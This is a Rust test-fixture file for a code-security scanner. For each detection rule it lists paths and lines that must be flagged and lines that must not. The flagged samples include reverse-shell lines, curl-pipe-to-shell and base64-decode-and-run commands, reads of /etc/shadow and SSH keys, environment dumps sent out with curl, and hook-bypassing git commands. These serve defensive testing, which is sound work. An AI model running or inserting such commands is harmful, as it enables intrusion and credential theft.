//! For each rule of the score: what it must find, and what must raise nothing at all.

/// Rule, path, lines that it finds, lines that are clean.
pub(super) type LineSample = (&'static str, &'static str, &'static [&'static str], &'static [&'static str]);

/// Rule, paths that it finds, paths that are clean.
pub(super) type PathSample = (&'static str, &'static [&'static str], &'static [&'static str]);

pub(super) const PATHS: &[PathSample] = &[
    (
        "sensitive-name",
        &[
            "src/auth.py",
            "src/OAuthClient.java",
            "lib/user_login.rb",
            "src/tokens/a.c",
            "src/UserSession.ts",
            "crypto.c",
        ],
        &["src/author.py", "src/blogging.py", "docs/tokenizer.md", "src/passage.rs", "src/authority.c"],
    ),
    ("ci", &[".github/workflows/a.yml", ".gitlab-ci.yml", "Jenkinsfile"], &["src/github.py", "docs/ci.md"]),
    ("container", &["Dockerfile", "web/api.Dockerfile", "docker-compose.prod.yml", "k8s/a.yaml"], &["src/docker.py"]),
    ("infrastructure", &["main.tf", "ansible/a.yml", "serverless.yml"], &["src/a.tfx", "src/terraformer.py"]),
    (
        "build",
        &["Makefile", "sub/build.rs", "deploy.sh", "deploy/a.txt", "install.sh"],
        &["src/builder.rs", "deployer.py"],
    ),
    ("privileges", &["etc/sudoers.d/app", "app.service", "cron.daily/x"], &["src/service.py", "micron.txt"]),
    (
        "own-rules",
        &[
            "fuseboard.toml",
            "hooks.d/after-mission/x",
            ".gitattributes",
            ".husky/pre-push",
            "hooks/pre-commit",
            ".semgrepignore",
        ],
        &["src/hooks/use_user.ts", "docs/fuseboard.md"],
    ),
    ("manifest", &["package.json", "crates/a/Cargo.toml", "requirements-dev.txt"], &["src/package.jsonl", "go.model"]),
    ("lock-file", &["Cargo.lock", "web/package-lock.json", "go.sum"], &["src/lock.rs"]),
];

pub(super) const LINES: &[LineSample] = &[
    (
        "packed-text",
        "a.js",
        &[concat!(
            "x = '",
            r"\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68",
            r"\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68\x68'"
        )],
        &[r"x = '\x1b[0m'"],
    ),
    ("turned-text", "a.txt", &["if \u{202e}x", "a\u{2066}b"], &["Grüße — “x” …"]),
    (
        "eval",
        "a.py",
        &["eval(x)", "y = exec(code)", "builtins.eval(x)", "f = new Function(x)", "__import__(x)"],
        &["model.eval()", "evaluate(x)", "re.exec(x)", "ast.literal_eval(x)"],
    ),
    ("shell-eval", "a.sh", &["eval \"$x\"", "true && eval $x"], &["evaluate x", "medieval x"]),
    (
        "shell-from-program",
        "a.py",
        &[
            "os.system(x)",
            "subprocess.run(x, shell=True)",
            "const { exec: run } = require('child_process')",
            "Command::new(\"sh\")",
            "exec.Command(\"/bin/bash\", \"-c\", x)",
        ],
        &["subprocess.run(['ls'])", "file_system(x)", "shell=False"],
    ),
    (
        "download-and-run",
        "README.md",
        &["curl https://example.org/a | sh", "wget -qO- x | sudo bash", "sh -c \"$(curl -fsSL x)\"", "bash <(curl x)"],
        &["curl https://example.org/a -o b", "curl x | jq .", "curl x | tee shell.txt"],
    ),
    (
        "decode-and-run",
        "a.txt",
        &["echo x | base64 -d | sh", "exec(base64.b64decode(x))", "eval(atob(x))"],
        &["echo x | base64 -d > file", "base64.b64decode(x)"],
    ),
    (
        "deserialise",
        "a.py",
        &["pickle.loads(x)", "yaml.load(x)", "Marshal.load x", "dill.load(x)"],
        &["yaml.safe_load(x)", "json.loads(x)", "pickled = 1"],
    ),
    (
        "reverse-shell",
        "a.txt",
        &["bash -i >& /dev/tcp/x/1", "nc -e /bin/sh x 1", "pty.spawn('/bin/sh')"],
        &["> /dev/null", "nc -z host 80"],
    ),
    ("install-hook", "a.json", &["\"postinstall\": \"node x.js\""], &["\"test\": \"x\"", "\"installer\": \"x\""]),
    (
        "tls-unverified",
        "a.txt",
        &[
            "requests.get(x, verify=False)",
            "rejectUnauthorized: false",
            "InsecureSkipVerify: true",
            "curl -sk x",
            "ssh -o StrictHostKeyChecking=no x",
        ],
        &["requests.get(x, verify=True)", "rejectUnauthorized: true", "curl -s x", "verify = falsehood"],
    ),
    (
        "open-rights",
        "a.txt",
        &["chmod 777 x", "chmod -R 0666 x", "chmod u+s x", "chmod 4755 x", "os.chmod(x, 0o777)", "setuid(0)"],
        &["chmod 755 x", "chmod 0640 x", "chmod +x x", "chmod 1755 x", "os.chmod(x, 0o700)"],
    ),
    (
        "sql-from-text",
        "a.py",
        &[
            "f\"SELECT * FROM t WHERE id = {x}\"",
            "q = 'DELETE FROM t WHERE a = ' + x",
            "\"SELECT a FROM t WHERE b = '%s'\" % x",
            "`SELECT a FROM t WHERE b = ${x}`",
            "format!(\"SELECT a FROM {x}\")",
        ],
        &["execute('SELECT a FROM t WHERE b = ?', x)", "'selected from ' + x", "# update the set"],
    ),
    (
        "html-from-text",
        "a.tsx",
        &["<div dangerouslySetInnerHTML={x} />", "el.innerHTML = x", "document.write(x)", "mark_safe(x)"],
        &["el.textContent = x", "if (el.innerHTML == x) y()"],
    ),
    (
        "weak-cryptography",
        "a.py",
        &["hashlib.md5(x)", "createHash('sha1')", "AES.new(k, AES.MODE_ECB)", "getInstance(\"DES\")", "md5($x)"],
        &["hashlib.sha256(x)", "createHash('sha256')", "md5sum = 1"],
    ),
    (
        "open-to-other-sites",
        "a.py",
        &["@csrf_exempt", "http.csrf().disable()", "Access-Control-Allow-Origin: *", "allow_origins=['*']"],
        &["Access-Control-Allow-Origin: https://example.org", "csrf_protect(x)"],
    ),
    (
        "listens-to-all",
        "a.py",
        &["run(host='0.0.0.0')", "bind 0.0.0.0:80", "addr = INADDR_ANY"],
        &["run(host='127.0.0.1')", "10.0.0.0.0", "0.0.0.0/0"],
    ),
    (
        "bare-address",
        "a.py",
        &["'http://203.0.113.9/x'", "wss://u@8.8.8.8:1", "http://192.1.2.3", "http://169.254.169.254/x"],
        &["http://127.0.0.1:80", "http://10.1.2.3", "http://192.168.1.1", "http://172.16.0.1", "https://example.org"],
    ),
    (
        "reads-secrets",
        "a.py",
        &["open('/etc/shadow')", "cat ~/.ssh/id_rsa", "x/.aws/credentials", "/proc/1/environ"],
        &["open('/etc/hosts')", "x.ssh_client", "/proc/cpuinfo"],
    ),
    (
        "environment-sent",
        "a.sh",
        &["env | curl -d @- x", "requests.post(u, json=dict(os.environ))", "curl -d \"$(printenv)\" x"],
        &["env | sort", "post(os.environ['URL'])", "fetch(process.env.URL)"],
    ),
    ("unsafe-rust", "a.rs", &["unsafe { x }", "unsafe fn f() {}"], &["#![forbid(unsafe_code)]", "not_unsafe { }"]),
    ("sudo", "a.sh", &["sudo make install", "x && sudo -u y z"], &["pseudo x", "sudo=1"]),
    (
        "privileged-container",
        "a.yaml",
        &["docker run --privileged x", "privileged: true", "hostNetwork: true"],
        &["privileged: false", "unprivileged: x"],
    ),
    ("pipeline-rights", "a.yml", &["on: pull_request_target", "permissions: write-all"], &["on: pull_request"]),
    (
        "checks-passed-by",
        "a.sh",
        &["git commit --no-verify", "git push --force", "git push origin x -f", "HUSKY=0 git push"],
        &["git push origin x", "rm -f x"],
    ),
    (
        "tests-skipped",
        "a.py",
        &["@pytest.mark.skip", "it.skip('x')", "#[ignore]", "t.Skip()"],
        &["skip(x)", "exit(1)", "iterator.skip(1)"],
    ),
    ("scanner-muted", "a.py", &["x()  # nosec", "x() // nosemgrep"], &["nosecond = 1", "codeql = 1"]),
];
